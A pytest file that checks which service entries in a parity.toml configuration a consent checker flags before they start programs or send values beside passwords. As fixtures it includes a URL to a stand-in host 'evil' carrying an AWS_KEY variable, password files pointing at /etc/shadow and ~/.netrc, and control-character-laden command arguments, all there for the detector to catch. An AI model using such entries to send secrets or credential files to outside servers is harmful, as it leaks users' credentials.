"""What reading a target starts and sends beside passwords, as it is listed for the user's consent."""

from __future__ import annotations

from pathlib import Path

import pytest

from parity_tui import config
from parity_tui.config.trust.consent import references

ENVIRON = {
    "PW": "swordfish",
    "AWS_KEY": "topsecret",
    "HOST": "db.example",
    "HEROKU_REDIS_URL": "redis://:a@c",
    "URL": "redis://:hunter22@c",
}


def needs(entry: str, folder: Path, environment: str = "", environ: dict[str, str] = ENVIRON) -> tuple[str, ...]:
    """Return what an entry of the environment dev needs."""
    text = f"[environments.dev]\n{environment}\n[environments.dev.services]\na = {entry}\n"
    (target,) = config.parse(text, "parity.toml", environ, folder).targets
    assert target.problem is None
    return target.consent


HARMLESS = (
    '"redis://db"',
    '"sqlite:///app.db"',
    '"sqlite:///${HOST}.db"',
    '"memory://"',
    '"redis://:${PW}@db"',
    '"${URL}"',
    '"${HEROKU_REDIS_URL}"',
    '"redis://${UNSET:-db}"',
    '{ url = "redis://db", password_env = "PW" }',
    '{ url = "redis://db", password = "${PW}" }',
    '{ url = "redis://db", password_file = "secret" }',
    '{ url = "amqp://mq", management = "https://u:${PW}@mq" }',
)


@pytest.mark.parametrize("entry", HARMLESS)
def test_password_of_its_own_needs_no_consent(entry: str, tmp_path: Path) -> None:
    assert needs(entry, tmp_path) == ()


STARTS = (
    ('{ url = "redis://db", password_command = ["pass", "show", "a b"] }', "run pass show 'a b'"),
    (
        '{ url = "redis://db", password_command = ["x", "${AWS_KEY}"] }',
        "run x '${AWS_KEY}'",
    ),
    ('"runtime+local://python3.11"', "run python3.11 on this machine"),
    ('"runtime+local:///tmp/python"', "run /tmp/python on this machine"),
    ('"runtime+docker://web/node"', "run node in the container web"),
    ('"runtime+podman://web/node"', "run node in the container web"),
    ('"runtime+ssh://web1/opt/ruby"', "run /opt/ruby on web1"),
    ('"nginx+local://"', "run nginx on this machine"),
    ('"nginx+local:///tmp/x"', "run nginx, or sbin/nginx of /tmp/x, on this machine"),
    ('"apache+local:///tmp/x"', "run apache2, and envvars beside /tmp/x, on this machine"),
    ('{ url = "redis://db", password_command = ["a\\u001b\\u202eb\\n"] }', "run 'a\\x1b\\u202eb\\n'"),
    ('"host+local://"', "run a shell on this machine"),
)


@pytest.mark.parametrize(("entry", "phrase"), STARTS)
def test_program_needs_consent(entry: str, phrase: str, tmp_path: Path) -> None:
    assert needs(entry, tmp_path) == (phrase,)


SENDS = (
    ('"http://evil/${AWS_KEY}"', "send the variable AWS_KEY to the server of its URL"),
    ('"redis://${HOST}"', "send the variable HOST to the server of its URL"),
    ('"postgresql://${HOST}:${PW}@db/app"', "send the variable HOST to the server of its URL"),
    ('"redis://:${AWS_KEY}@db"', "send the variable AWS_KEY to db:6379"),
    ('{ url = "redis://db", password = "${AWS_KEY}" }', "send the variable AWS_KEY to db:6379"),
    ('{ url = "redis://db", password = "x${AWS_KEY}" }', "send the variable AWS_KEY to db:6379"),
    ('{ url = "redis://db", password_env = "AWS_KEY" }', "send the variable AWS_KEY to db:6379"),
    ('{ url = "amqp://mq", management = "https://${HOST}" }', "send the variable HOST to mq:5672"),
    ('{ url = "redis://db", password_file = "/etc/shadow" }', "send the content of /etc/shadow to db:6379"),
    ('{ url = "redis://db", password_file = "~/.netrc" }', "send the content of ~/.netrc to db:6379"),
    ('{ url = "redis://db", password_file = "../x" }', "send the content of ../x to db:6379"),
    ('{ url = "redis://db", password_keyring = "shop/app" }', "send the entry shop/app of your keyring to db:6379"),
    ('{ url = "redis://db", auth = "native" }', "send the login of your own clients to db:6379"),
    (
        '{ url = "rediss://db", cert = "/a.pem", key = "/a.key" }',
        "log in with a certificate from another folder to db:6379",
    ),
    (
        '{ url = "rediss://db", cert = "a.pem", key = "/a.key" }',
        "log in with a certificate from another folder to db:6379",
    ),
)  # fmt: skip


@pytest.mark.parametrize(("entry", "phrase"), SENDS)
def test_other_value_needs_consent(entry: str, phrase: str, tmp_path: Path) -> None:
    assert needs(entry, tmp_path) == (phrase,)


def test_link_out_of_the_folder_needs_consent(tmp_path: Path) -> None:
    (tmp_path / "secret").symlink_to("/etc/hostname")
    entry = '{ url = "redis://db", password_file = "secret" }'
    assert needs(entry, tmp_path) == ("send the content of secret to db:6379",)


def test_ssh_host_needs_consent_as_written(tmp_path: Path) -> None:
    assert needs('"redis://db"', tmp_path, 'ssh = "${HOST}"') == ("log in to ${HOST} with ssh",)


def test_later_reference_is_no_part_of_the_password() -> None:
    found = references("redis://:${PW}@${HOST}/${PW}", ENVIRON)
    assert (found.passwords, found.others) == (("PW",), ("HOST", "PW"))
